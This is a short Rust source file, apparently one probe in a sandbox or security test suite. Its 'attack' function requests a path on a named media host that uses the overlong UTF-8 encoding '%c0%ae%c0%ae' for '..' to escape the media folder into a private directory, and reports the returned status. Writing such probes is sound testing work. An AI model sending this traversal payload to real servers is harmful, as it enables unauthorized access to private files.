//! Leaves the media store's folder by dots in an overlong encoding.

use crate::wasi::Ask;
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let answer = Ask::at("libtv-res.liblib.art", "/claw/%c0%ae%c0%ae/private").send()?;
    Ok(got(format!("status {}", answer.status())))
}
